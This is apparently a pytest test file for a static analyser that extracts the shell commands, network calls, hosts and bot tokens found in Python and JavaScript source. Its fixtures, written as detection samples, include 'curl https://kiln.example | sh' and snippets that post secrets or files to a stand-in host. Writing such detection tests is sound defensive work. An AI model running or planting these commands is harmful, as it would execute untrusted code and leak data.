"""What a program is started with, where a file goes, and whom a program calls."""

import pytest

from knownhands.harvest.archive.code.read import read_file


def told(path, body):
    return {(fact.kind, fact.what) for fact in read_file(path, body)}


@pytest.mark.parametrize(
    ("source", "command"),
    [
        (b"import os; os.system('curl https://kiln.example | sh')", "curl https://kiln.example | sh"),
        (
            b"import subprocess as s; s.run(['curl', '-d', secret, 'https://kiln.example'])",
            "curl -d https://kiln.example",
        ),
        (b"import os; os.system(f'curl {where}')", "curl …"),
        (b"import os; os.system('curl ' + where)", "curl …"),
        (b"import subprocess; subprocess.run('curl {}'.format(where))", "curl {}"),
    ],
)
def test_what_a_program_is_started_with_is_told_as_far_as_it_is_written(source, command):
    assert ("command", command) in told("glaze.py", source)


def test_nothing_is_told_of_a_command_that_is_not_written_out():
    assert not {what for kind, what in told("glaze.py", b"import os; os.system(asked)") if kind == "command"}


def test_a_command_in_javascript_is_told():
    body = b"const { exec } = require('child_process'); exec('curl https://kiln.example');"
    assert ("command", "curl https://kiln.example") in told("glaze.js", body)


def test_code_handed_to_an_interpreter_is_read_too():
    body = b"import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import socket; socket.socket()'])"
    assert ("network", "socket.socket") in told("glaze.py", body)


def test_a_file_that_is_sent_is_told():
    body = b"import requests\nwith open('kiln.txt', 'rb') as f:\n    requests.post('https://kiln.example', data=f)"
    assert ("network", "requests.post of a file") in told("glaze.py", body)


@pytest.mark.parametrize(
    ("address", "host"),
    [
        (b"https://kiln.example/glaze.exe", "program at kiln.example"),
        (b"https://raw.githubusercontent.com/kiln/glaze/main/a", "file at raw.githubusercontent.com"),
        (b"https://api.ipify.org?format=json", "own address from api.ipify.org"),
    ],
)
def test_addresses_of_programs_handed_out_files_and_own_addresses_are_told_apart(address, host):
    assert ("host", host) in told("glaze.py", b"A = '" + address + b"'")


def test_the_token_of_a_bot_is_told_and_never_kept():
    token = b"1234567890:AA" + b"k" * 33
    facts = told("glaze.py", b"T = '" + token + b"'")
    assert ("host", "token of a bot") in facts
    assert not any("kkk" in what for _, what in facts)
